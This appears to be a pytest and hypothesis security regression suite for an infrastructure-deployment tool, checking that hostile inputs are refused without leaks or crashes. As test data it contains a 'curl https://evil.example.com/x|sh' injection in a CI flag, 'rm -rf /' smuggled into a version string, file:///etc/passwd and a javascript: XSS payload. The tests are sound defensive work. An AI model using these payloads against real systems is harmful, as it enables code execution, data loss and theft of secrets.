"""Hostile input never opens access, leaks, loses data or crashes (issue 18).

One test per reported bypass reproduces its example and shows the fixed
behaviour; each class of problem also gets a property-test generator (CIDR
sets, URL schemes, control characters, non-finite numbers, template syntax,
duplicate items). Example counts stay small: the suite must stay fast.
"""

from __future__ import annotations

import contextlib
import io
import ipaddress
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import REPO, lock_beside, plan_for
from environments import loader, urls
from environments.errors import SpecError
from environments.safe_text import printable, redact, scrub
from policies.rules import networks
from stacks import registry_lock
from stacks.cli import main

FEW = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def run(*argv: str) -> tuple[int, str]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        code = main(list(argv))
    return code, out.getvalue()


def spec_copy(tmp_path: Path, replacements: dict[str, str], environment: str = "dev") -> Path:
    """A copy of a shipped environment (and base.yaml) with text replaced, and its lock beside it."""
    for name in ("base.yaml",):
        shutil.copy(REPO / "environments" / name, tmp_path / name)
    text = (REPO / "environments" / f"{environment}.yaml").read_text()
    for old, new in replacements.items():
        assert old in text, old
        text = text.replace(old, new)
    path = tmp_path / f"{environment}.yaml"
    path.write_text(text)
    lock_beside(path, environment)
    return path


def problems_of(path: Path) -> list[str]:
    from stacks import spec_loading

    with pytest.raises(SpecError) as error:
        spec_loading.load(str(path))
    return [str(problem) for problem in error.value.problems]


# --- 1. the stack config is part of what a stack deploys ---------------------------------------------

def test_a_stack_config_naming_another_environment_is_refused_by_diff(tmp_path):
    repo = tmp_path / "repo"
    listed = subprocess.run(["git", "-C", str(REPO), "ls-files", "-z"], capture_output=True, check=True)
    for relative in filter(None, listed.stdout.decode().split("\0")):
        if (REPO / relative).is_file():
            (repo / relative).parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(REPO / relative, repo / relative)
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t.invalid"]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "base"], check=True)
    (repo / "stacks" / "Pulumi.prod.yaml").write_text("config:\n  stackyard:environment: dev\n")
    result = subprocess.run([sys.executable, "-m", "stacks.cli", "diff", "prod", "--base", "main"], cwd=repo,
                            env={**os.environ, "PYTHONPATH": str(repo)}, capture_output=True, text=True)
    assert result.returncode == 2, result.stderr
    assert "stacks/Pulumi.prod.yaml:2:3" in result.stderr and "names environment 'dev'" in result.stderr
    assert "passed" not in result.stdout


def test_stack_config_problems(tmp_path):
    from stacks import stack_config

    (tmp_path / "Pulumi.prod.yaml").write_text("config:\n  stackyard:environment: prod\n")
    assert stack_config.problem("prod", tmp_path) is None
    (tmp_path / "Pulumi.prod.yaml").write_text("config:\n  stackyard:environment: prod\n"
                                               "  stackyard:specFile: /tmp/evil.yaml\n")
    assert "specFile" in stack_config.problem("prod", tmp_path)
    (tmp_path / "Pulumi.prod.yaml").write_text("config: {}\n")
    assert "has no stackyard:environment" in stack_config.problem("prod", tmp_path)
    for shipped in loader.environment_names():
        if shipped != "base":
            assert stack_config.problem(shipped) is None, shipped


# --- 2. CIDRs judged by the address space they cover ------------------------------------------------

@pytest.mark.parametrize("cidrs, fragment", [
    (["0.0.0.0/1", "128.0.0.0/1"], "0.0.0.0/0"),
    (["999.999.999.999/99"], "999.999.999.999/99"),
    (["1.2.3/8"], "1.2.3/8"),
    (["0.0.0.0/00"], "canonical form"),
    (["10.0.0.1/8"], "host bits"),
])
def test_public_endpoint_allow_lists_are_parsed_and_judged(tmp_path, cidrs, fragment):
    text = (REPO / "environments" / "dev.yaml").read_text()
    allow_list = next(line for line in text.splitlines() if line.strip().startswith("publicAccessCidrs:"))
    path = spec_copy(tmp_path, {allow_list: f"  publicAccessCidrs: [{', '.join(cidrs)}]"})
    found = problems_of(path)
    assert any("publicAccessCidrs" in p and fragment in p and "dev.yaml:" in p for p in found), found
    code, output = run("validate", str(path))
    assert code == 2 and fragment in output


def _networks_covering_everything(draw_splits: int) -> list[str]:
    """The whole IPv4 space split into 2**n equal networks."""
    return [str(n) for n in ipaddress.ip_network("0.0.0.0/0").subnets(prefixlen_diff=draw_splits)]


@FEW
@given(splits=st.integers(min_value=0, max_value=8), data=st.data())
def test_property_any_split_of_the_internet_is_open(splits, data):
    cidrs = data.draw(st.permutations(_networks_covering_everything(splits)))
    assert networks.exposure_problem(cidrs) is not None


@FEW
@given(st.lists(st.builds(lambda a, p: str(ipaddress.ip_network((a, p), strict=False)),
                          st.integers(min_value=0, max_value=2 ** 32 - 1), st.integers(min_value=9, max_value=32)),
                min_size=1, max_size=1))
def test_property_one_network_of_a_slash_9_or_smaller_is_not_open(cidrs):
    assert networks.exposure_problem(cidrs) is None


@FEW
@given(st.text(alphabet="0123456789./:abcdef", min_size=1, max_size=24))
def test_property_cidr_strings_parse_or_are_refused_never_crash(text):
    problem = networks.cidr_problem(text)
    if problem is None:
        assert str(ipaddress.ip_network(text)) == text


# --- 3. model sources from registry answers and lock files ------------------------------------------

HOSTILE_SOURCES = ["s3://*", "s3://*/models", "s3://bucket/*", "file:///etc/passwd", "http://models.example.com/m",
                   "s3://stackyard-ml-models/m\n::error::pwned", "s3://user:pw@bucket/m", "s3://Bucket_X/m",
                   "s3://stackyard-ml-models", "s3://stackyard-ml-models/../other"]


@pytest.mark.parametrize("source", HOSTILE_SOURCES)
def test_an_edited_lock_with_a_hostile_source_is_refused(tmp_path, source):
    path = spec_copy(tmp_path, {})
    lock = registry_lock.lock_path(path)
    text = lock.read_text()
    original = next(line for line in text.splitlines() if line.strip().startswith("source:"))
    lock.write_text(text.replace(original, f"  source: {json.dumps(source)}"))
    code, output = run("plan", str(path))
    assert code == 2, output
    assert "source" in output and "\n::error::" not in output and "Traceback" not in output


def test_allowed_buckets_limit_the_lock(tmp_path):
    path = spec_copy(tmp_path, {"    trackingUri: https://mlflow.dev.example.com":
                                "    trackingUri: https://mlflow.dev.example.com\n    allowedBuckets: [only-this-bucket]"})
    code, output = run("plan", str(path))
    assert code == 2 and "allowedBuckets" in output, output


def test_the_iam_grant_is_exactly_the_model_prefix():
    for resource in plan_for("prod")["resources"]:
        if resource["type"] == "aws:iam/rolePolicy:RolePolicy" and resource["name"].endswith("-model-read"):
            statements = json.loads(resource["inputs"]["policy"])["Statement"]
            get = next(s for s in statements if s["Action"] == "s3:GetObject")
            assert get["Resource"].startswith("arn:aws:s3:::stackyard-ml-models/") and "*" not in get["Resource"][:-2]


@FEW
@given(scheme=st.sampled_from(["s3", "gs", "https", "http", "file", "ftp", "javascript", "data", "hdfs", "S3"]),
       bucket=st.from_regex(r"[a-z0-9*?.-]{1,12}", fullmatch=True),
       prefix=st.from_regex(r"[a-z0-9*?/.\n\x1b-]{0,16}", fullmatch=True))
def test_property_only_concrete_sources_of_allowed_schemes_pass(scheme, bucket, prefix):
    source = f"{scheme}://{bucket}/{prefix}"
    if urls.model_source_problem(source) is None:
        assert scheme in urls.MODEL_SOURCE_SCHEMES
        assert not any(c in source for c in "*?\n\x1b")
        location = urls.storage_location(source)
        assert location.prefix and ".." not in location.prefix.split("/")


# --- 4. stored XSS and Markdown injection in reports -------------------------------------------------

def _audit_report_with_card(card: str):
    """prod's audit report, with one served model whose lock names `card` as its model card."""
    import dataclasses

    from policies.audit import ModelCard, audit_plan
    from policies.rules.model import LockedModel

    report = audit_plan(loader.load("prod"), loader.load_document("prod")[0], plan_for("prod"))
    locked = LockedModel(endpoint="ranker", model="ranker", version=7, source="s3://stackyard-ml-models/r/7",
                         model_card=card)
    card_entry = ModelCard("ranker", "search", "ranker", "version 7", "kserve-sklearn", "2-4", "-", locked)
    return dataclasses.replace(report, models=[card_entry])


def test_javascript_model_card_is_not_a_link_in_html():
    from policies.reports import render

    html = render(_audit_report_with_card("javascript:alert(document.cookie)"), "html")
    assert 'href="javascript:' not in html and "javascript:alert(document.cookie)" in html
    assert 'href="https://' in render(_audit_report_with_card("https://wiki.example.com/card"), "html")


def test_markdown_values_cannot_close_details_or_open_code_spans():
    from stacks.change_report import _cell, _literal

    hostile = "x`</details>\n### ✅ passed | <script>"
    for rendered in (_cell(hostile), _literal(hostile)):
        assert "</details>" not in rendered and "`" not in rendered.strip("`")[1:-1] or "<code>" in rendered
        assert "\n" not in rendered and "|" not in rendered and "<script>" not in rendered


# --- 5. secrets in messages -------------------------------------------------------------------------

def test_extends_through_a_symlink_out_of_the_folder_is_refused_unread(tmp_path):
    secret = tmp_path / "outside" / "id_rsa"
    secret.parent.mkdir()
    secret.write_text("sy-leak-symlinked-9f3e21 PRIVATE KEY\n")
    folder = tmp_path / "envs"
    folder.mkdir()
    (folder / "shared.yaml").symlink_to(secret)
    (folder / "child.yaml").write_text("apiVersion: stackyard.dev/v1\nkind: Environment\nextends: shared\n")
    code, output = run("validate", str(folder / "child.yaml"))
    assert code == 2 and "symbolic link" in output and "sy-leak-symlinked" not in output


def test_a_value_in_a_secret_reference_field_is_never_printed(tmp_path):
    path = spec_copy(tmp_path, {})
    base = (tmp_path / "base.yaml").read_text()
    assert "    config: grafanaAdminPassword" in base
    (tmp_path / "base.yaml").write_text(base.replace("    config: grafanaAdminPassword",
                                                     "    arn: 'S3cr3t-sy-leak-ref-77'"))
    code, output = run("validate", str(path))
    assert code == 2 and "S3cr3t-sy-leak-ref-77" not in output and "not shown" in output, output


def test_credentials_in_spec_urls_are_refused(tmp_path):
    path = spec_copy(tmp_path, {"https://mlflow.dev.example.com": "https://admin:hunter2@mlflow.dev.example.com"})
    found = problems_of(path)
    assert any("credentials" in p for p in found) and not any("hunter2" in p for p in found)


def test_echoed_authorization_headers_and_userinfo_are_redacted():
    message = "refused: echo of Authorization: Bearer sy-leak-bearer-31f0 from https://u:sy-leak-pw@h/x?token=sy-t"
    shown = redact(message)
    assert "sy-leak-bearer" not in shown and "sy-leak-pw" not in shown and "sy-t" not in shown
    assert shown.startswith("refused: echo of Authorization")


# --- 6/7. the plan directory changes as one unit, with the umask's permissions ------------------------

# `stackyard plan` with the (slow, already tested) offline build replaced by a recorded plan, and each
# manifest written a little slower, so that signals land inside the write phase.
KILL_PLAN = """
import json, os, pathlib, sys, time
from stacks import atomic, plan
plan.build = lambda spec, spec_file: json.loads(pathlib.Path(os.environ["RECORDED_PLAN"]).read_text())
real = atomic.replace_directory
def paced(path, files, synced=()):
    original = pathlib.Path.write_text
    def slow(self, *a, **k):
        time.sleep(0.001)
        return original(self, *a, **k)
    pathlib.Path.write_text = slow
    print("WRITING", file=sys.stderr, flush=True)
    return real(path, files, synced)
atomic.replace_directory = paced
from stacks.cli import main
sys.exit(main(sys.argv[1:]))
"""


def _whole_plan(out: Path) -> str:
    """The environment of the one whole plan in `out`; fails if anything else is there."""
    assert sorted(p.name for p in out.iterdir()) == ["manifests", "plan.json"], list(out.iterdir())
    plan = json.loads((out / "plan.json").read_text())
    from stacks import plan as offline_plan

    expected = set(offline_plan.manifests(plan))
    written = {str(p.relative_to(out / "manifests")) for p in (out / "manifests").rglob("*") if p.is_file()}
    assert written == expected
    return plan["environment"]


def test_plan_killed_at_any_point_of_its_write_leaves_one_whole_plan(tmp_path):
    """SIGINT, SIGTERM and SIGKILL at several instants of the write phase: `out` holds one whole plan."""
    from stacks import plan as offline_plan

    recorded = tmp_path / "recorded.json"
    recorded.write_text(json.dumps(plan_for("dev")))
    work = tmp_path / "work"
    out = work / "out"
    offline_plan.write(plan_for("local"), out)
    outcomes = set()
    for sig, expected_code in ((signal.SIGINT, 130), (signal.SIGTERM, 143), (signal.SIGKILL, -9)):
        for delay in (0.0, 0.05, 0.2):
            process = subprocess.Popen([sys.executable, "-c", KILL_PLAN, "plan", "dev", "--out", str(out)],
                                       cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO),
                                                      "RECORDED_PLAN": str(recorded)},
                                       stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
            for line in process.stderr:
                if "WRITING" in line:
                    break
            time.sleep(delay)
            process.send_signal(sig)
            code = process.wait(timeout=60)
            # 0 or -sig: the plan was already written when the signal came (during interpreter exit).
            assert code in (expected_code, 0, -sig), (sig, delay, code)
            outcomes.add((_whole_plan(out), code == expected_code))
            if sig != signal.SIGKILL:
                assert [p.name for p in work.iterdir()] == ["out"]
    assert ("local", True) in outcomes  # a signal inside the write phase left the old plan whole
    finished = subprocess.run([sys.executable, "-c", KILL_PLAN, "plan", "dev", "--out", str(out)], cwd=REPO,
                              env={**os.environ, "PYTHONPATH": str(REPO), "RECORDED_PLAN": str(recorded)},
                              capture_output=True, text=True, timeout=60)
    assert finished.returncode == 0, finished.stderr
    # The uninterrupted run swapped the new plan in and removed what a SIGKILL left beside it.
    assert [p.name for p in work.iterdir()] == ["out"] and _whole_plan(out) == "dev"


def test_plan_files_follow_the_umask(tmp_path):
    from stacks import plan as offline_plan

    previous = os.umask(0o022)
    try:
        offline_plan.write(plan_for("local"), tmp_path / "out")
    finally:
        os.umask(previous)
    assert (tmp_path / "out" / "plan.json").stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "out").stat().st_mode & 0o777 == 0o755
    assert (tmp_path / "out" / "manifests").stat().st_mode & 0o777 == 0o755


def test_plan_refuses_an_output_directory_with_other_files(tmp_path):
    (tmp_path / "notes.txt").write_text("mine")
    code, output = run("plan", "local", "--out", str(tmp_path))
    assert code == 2 and "notes.txt" in output and (tmp_path / "notes.txt").read_text() == "mine"


# --- 8. last one no longer wins ---------------------------------------------------------------------

def test_a_team_defined_twice_after_extends_is_an_error(tmp_path):
    path = spec_copy(tmp_path, {})
    text = path.read_text()
    path.write_text(text + "\nteams:\n  - {name: recsys, owner: a@example.com, gpuQuota: 1}\n"
                           "  - {name: recsys, owner: a@example.com, gpuQuota: 64}\n")
    found = problems_of(path)
    assert any("duplicate name 'recsys'" in p and "dev.yaml:" in p for p in found), found


def test_lock_duplicates_and_wrong_environment_are_errors(tmp_path):
    path = spec_copy(tmp_path, {})
    lock = registry_lock.lock_path(path)
    text = lock.read_text()
    lock.write_text(text.replace("trackingUri:", "environment: dev\ntrackingUri:", 1))
    assert "duplicate key 'environment'" in run("plan", str(path))[1]
    lock.write_text(text.replace("environment: dev", "environment: prod"))
    assert "the lock of environment 'prod'" in run("plan", str(path))[1]
    lock.write_text(text + text[text.index("endpoints:") + len("endpoints:\n"):])
    code, output = run("plan", str(path))
    assert code == 2 and "appears twice" in output


@FEW
@given(st.lists(st.sampled_from(["a", "b", "c"]), min_size=2, max_size=5))
def test_property_duplicate_names_in_a_merged_list_are_reported(names):
    from environments.located_yaml import LocatedList, LocatedMap
    from environments.errors import Location

    def located_list(items):
        result = LocatedList(LocatedMap({"name": n}) for n in items)
        result.location, result.locations = Location("f.yaml", 1, 1), {i: Location("f.yaml", i + 2, 3)
                                                                        for i in range(len(items))}
        for item in result:
            item.location, item.locations = Location("f.yaml", 1, 1), {}
        return result

    base = located_list(["a"])
    if len(set(names)) < len(names):
        with pytest.raises(SpecError):
            loader.merge(base, located_list(names))
    else:
        assert sorted(i["name"] for i in loader.merge(base, located_list(names))) == sorted(set(names) | {"a"})


# --- 9. NaN and infinity ----------------------------------------------------------------------------

@FEW
@given(st.sampled_from([".nan", ".NaN", ".inf", "-.inf", ".Inf", "+.inf"]))
def test_property_non_finite_numbers_are_refused_in_specs_and_locks(tmp_path_factory, value):
    from environments.located_yaml import load_located

    folder = tmp_path_factory.mktemp("nan")
    (folder / "x.yaml").write_text(f"a:\n  b: {value}\n")
    with pytest.raises(SpecError) as error:
        load_located(str(folder / "x.yaml"), "x.yaml")
    assert "x.yaml:2:6" in str(error.value) and "finite" in str(error.value)
    with pytest.raises(ValueError, match="finite"):
        registry_lock.parse(f"apiVersion: stackyard.dev/v1\nkind: RegistryLock\nx: {value}\n")


def test_nan_timeout_is_refused_at_validate(tmp_path):
    path = spec_copy(tmp_path, {"    trackingUri: https://mlflow.dev.example.com":
                                "    trackingUri: https://mlflow.dev.example.com\n    timeoutSeconds: .nan"})
    assert any("finite" in p for p in problems_of(path))


# --- 10. template injection -------------------------------------------------------------------------

@FEW
@given(st.sampled_from(["{{", "}}", "{%", "%}"]), st.text(alphabet="abc/", max_size=5))
def test_property_template_syntax_in_spec_strings_is_refused(tmp_path_factory, syntax, tail):
    folder = tmp_path_factory.mktemp("tpl")
    path = spec_copy(folder, {})
    base = (folder / "base.yaml").read_text()
    assert "runbookBaseUrl: https://runbooks.example.com/stackyard" in base
    (folder / "base.yaml").write_text(base.replace("runbookBaseUrl: https://runbooks.example.com/stackyard",
                                                   f"runbookBaseUrl: 'https://runbooks.example.com/{syntax}{tail}'"))
    assert any("runbookBaseUrl" in p for p in problems_of(path))


# --- 12. exit 2, not 1 ------------------------------------------------------------------------------

def test_a_deeply_nested_manifest_is_one_finding(tmp_path):
    (tmp_path / "deep.yaml").write_text("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: "
                                        + "[" * 3000 + "]" * 3000 + "\n")
    (tmp_path / "fine.yaml").write_text("apiVersion: v1\nkind: Namespace\nmetadata: {name: fine}\n")
    code, output = run("audit", "--manifests", str(tmp_path), "--format", "json")
    assert code == 3 and "Traceback" not in output
    report = json.loads(output)
    assert any("deep.yaml" in f["message"] and "nested" in f["message"] for f in report["findings"])


def test_a_non_integer_registry_version_is_invalid_input():
    from environments.spec import ModelRef

    with pytest.raises(registry_lock.RegistryError, match="not a positive integer"):
        registry_lock._version_number(ModelRef(name="m", version=1), "1; rm -rf /", "https://r.example.com")


# --- 13. merge edges --------------------------------------------------------------------------------

def test_a_child_can_switch_an_inherited_secret_reference(tmp_path):
    merged = loader.merge(*_located_pair({"s": {"config": "x"}}, {"s": {"arn": "y"}}))
    assert merged["s"] == {"arn": "y"}


def _located_pair(first, second):
    from environments.located_yaml import load_located
    import tempfile

    folder = Path(tempfile.mkdtemp())
    documents = []
    for index, document in enumerate((first, second)):
        (folder / f"{index}.yaml").write_text(json.dumps(document))
        documents.append(load_located(str(folder / f"{index}.yaml"), f"{index}.yaml"))
    return documents


def test_conflict_markers_in_a_lock_are_located():
    with pytest.raises(ValueError, match=r"line 3: unresolved merge conflict marker '<<<<<<<'"):
        registry_lock.parse("apiVersion: stackyard.dev/v1\nkind: RegistryLock\n<<<<<<< HEAD\n")


# --- 14. control characters in every output ---------------------------------------------------------

CONTROL = st.text(alphabet=st.sampled_from(["a", "\x00", "\x1b", "\n", "\r", "\x7f", "\x85", "\u202e", "\x08"]),
                  min_size=1, max_size=12)


@FEW
@given(CONTROL)
def test_property_printable_and_scrub_leave_no_control_characters(text):
    assert all(c.isprintable() for c in printable(text))
    assert all(c.isprintable() or c in "\n\t" for c in scrub(text))


@FEW
@given(CONTROL)
def test_property_junit_and_table_stay_well_formed_with_control_characters_in_findings(text):
    import dataclasses

    from policies.engine import Finding
    from policies.reports import render

    report = _audit_report_with_card(f"https://wiki.example.com/{text}")
    control = report.evaluation.controls[0]
    hostile = Finding(control.rule, "mandatory", f"urn:{text}", f"msg {text}")
    evaluation = dataclasses.replace(report.evaluation, findings=(hostile, *report.evaluation.findings))
    report = dataclasses.replace(report, evaluation=evaluation)
    ElementTree.fromstring(render(report, "junit").split("\n", 1)[1])
    for format in ("table", "html", "sarif"):
        shown = render(report, format)
        assert not any(c in shown for c in "\x00\x1b\x08\x7f\x85\u202e"), format
    json.loads(render(report, "json"))


# --- 13. promoting an alias YAML 1.1 would read as something else ------------------------------------

@pytest.mark.parametrize("alias", ["yes", "no", "on", "off", "null", "true", "1e3", "2024-01-01"])
def test_a_promoted_alias_reads_back_as_the_same_string(alias):
    import yaml

    from environments import promotion

    source = {"metadata": {"name": "staging"}, "endpoints": [{"name": "a", "model": {"name": "m", "alias": alias}}]}
    for target in ("endpoints:\n  - name: a\n    model:\n      name: m\n      version: 3\n",
                   "endpoints:\n  - name: a\n    model:\n      name: m\n      alias: champion\n"):
        text, _ = promotion.promote_spec_text(target, "prod.yaml", source, promotion.Selection(("a",), ()))
        assert yaml.safe_load(text)["endpoints"][0]["model"]["alias"] == alias, text


# --- 12. malformed preview documents ----------------------------------------------------------------

JSON_VALUES = st.recursive(st.none() | st.booleans() | st.integers(-3, 3) | st.text("ab:$", max_size=4),
                           lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text("ab", max_size=2),
                                                                                        inner, max_size=3),
                           max_leaves=8)
STEP = st.fixed_dictionaries(
    {"op": st.sampled_from(["create", "update", "delete", "replace", "same", "create-replacement"]),
     "urn": st.sampled_from(["urn:pulumi:prod::stackyard::aws:s3/bucket:Bucket::b", "urn:pulumi:x", "x"])},
    optional={"oldState": JSON_VALUES, "newState": JSON_VALUES, "detailedDiff": JSON_VALUES,
              "replaceReasons": JSON_VALUES, "diffReasons": JSON_VALUES})


@FEW
@given(st.fixed_dictionaries({"steps": st.lists(STEP, max_size=3)}, optional={"changeSummary": JSON_VALUES}))
def test_property_malformed_preview_documents_are_invalid_input_never_a_crash(tmp_path_factory, document):
    path = tmp_path_factory.mktemp("preview") / "preview.json"
    path.write_text(json.dumps(document))
    code, output = run("report-preview", str(path), "--allow-data-loss", "*", "--reason", "property test")
    assert code in (0, 2, 3, 4), output
    assert "internal error" not in output and "Traceback" not in output


# --- 11. `ci init github` writes only checked flags ---------------------------------------------------

@pytest.mark.parametrize("flags, fragment", [
    (["--parity", "staging:prod; curl https://evil.example.com/x|sh #"], "no environment"),
    (["--parity", "nosuch:prod"], "no environment 'nosuch'"),
    (["--parity", "prod:prod"], "itself"),
    (["--branch", "main\n    - evil"], "--branch"),
    (["--branch", "main'; echo"], "--branch"),
    (["--python", "3.11\"\n  run: evil"], "--python"),
    (["--environments", "1dev"], "no such environment"),
])
def test_ci_init_refuses_flags_that_would_inject_into_a_workflow(tmp_path, flags, fragment):
    code, output = run("ci", "init", "github", "--dir", str(tmp_path), "--environments", "staging,prod", *flags)
    assert code == 2 and fragment in output, output
    assert not (tmp_path / ".github").exists()


def test_environment_names_must_make_valid_job_outputs():
    from stacks.commands import ci

    with pytest.raises(Exception, match="must start with a letter"):
        ci._job_names(["1dev"])
    assert ci._job_names(["dev", "staging-eu"]) == ["dev", "staging-eu"]


@FEW
@given(st.text(alphabet="ab1.-/'\" ;|\n{}$@", min_size=1, max_size=10))
def test_property_only_plain_branch_names_reach_a_workflow(branch):
    from stacks.commands import ci

    if ci._BRANCH.match(branch):
        assert not any(c in branch for c in "'\" ;|\n{}$@") and ".." not in branch


def test_the_audit_table_and_junit_show_escapes_not_raw_control_characters(tmp_path):
    (tmp_path / "x.yaml").write_text('apiVersion: v1\nkind: Pod\nmetadata: {name: "evil\\u001b[31mRED\\u0000"}\n'
                                     'spec: {containers: [{name: c, image: "x\\u001b[2J"}]}\n')
    code, table = run("audit", "--manifests", str(tmp_path))
    assert code == 3 and "\x1b" not in table and "evil\\x1b[31mRED" in table
    code, _ = run("audit", "--manifests", str(tmp_path), "--format", "junit", "--output", str(tmp_path / "r.xml"))
    ElementTree.parse(tmp_path / "r.xml")


# --- 19. a final newline past an anchored pattern ---------------------------------------------------
# Python's `$` also matches before a final newline: "main\n" passed "^[A-Za-z0-9._/-]+$" (found by
# the branch-name property above), and a spec string may end in one (a YAML block scalar).

def _schema_patterns() -> list[str]:
    found = set()

    def walk(value):
        if isinstance(value, dict):
            if isinstance(value.get("pattern"), str):
                found.add(value["pattern"])
            for child in value.values():
                walk(child)
        elif isinstance(value, list):
            for child in value:
                walk(child)

    for path in sorted((REPO / "environments" / "schema").glob("*.schema.json")):
        walk(json.loads(path.read_text()))
    return sorted(pattern for pattern in found if pattern.endswith("$"))


@pytest.mark.parametrize("pattern", _schema_patterns())
@FEW
@given(data=st.data())
def test_a_schema_pattern_refuses_what_it_accepts_plus_a_final_newline(pattern, data):
    from environments import json_schema

    validator = json_schema.validator_class()({"type": "string", "pattern": pattern})
    value = data.draw(st.from_regex(json_schema.ecma_pattern(pattern), fullmatch=True).filter(
        lambda text: "\n" not in text))
    assert validator.is_valid(value)
    assert not validator.is_valid(value + "\n")


def test_the_spec_loader_refuses_a_final_newline_where_the_schema_anchors_a_value(tmp_path):
    for name in ("base.yaml", "dev.yaml", "dev.lock.yaml"):
        shutil.copyfile(REPO / "environments" / name, tmp_path / name)
    spec_file = tmp_path / "dev.yaml"
    text = spec_file.read_text()
    assert "  name: dev\n" in text
    spec_file.write_text(text.replace("  name: dev\n", '  name: "dev\\n"\n', 1))
    with pytest.raises(SpecError) as refused:
        loader.load(str(spec_file))
    # One schema problem, not the schema's silence and nine derived-name problems after it.
    assert [str(problem).split(": ", 2)[1:] for problem in refused.value.problems] == [
        ["$.metadata.name", "expected a DNS-1123 label of at most 42 characters, found string 'dev\\n'"]]


def test_no_anchored_pattern_in_the_code_ends_in_a_dollar():
    # `\Z`, not `$`, ends an anchored pattern (or use fullmatch); MULTILINE patterns mean `$` per line.
    anchored = re.compile(r"""re\.(?:compile|match|fullmatch|search)\(\s*r?(["'])\^.*\$\1(?![^)]*(?:re\.M|MULTILINE))""")
    offenders = []
    for folder in ("environments", "stacks", "policies", "components", "pipelines", "benchmarks"):
        for path in sorted((REPO / folder).rglob("*.py")):
            for number, line in enumerate(path.read_text().splitlines(), start=1):
                if anchored.search(line):
                    offenders.append(f"{path.relative_to(REPO)}:{number}")
    assert not offenders
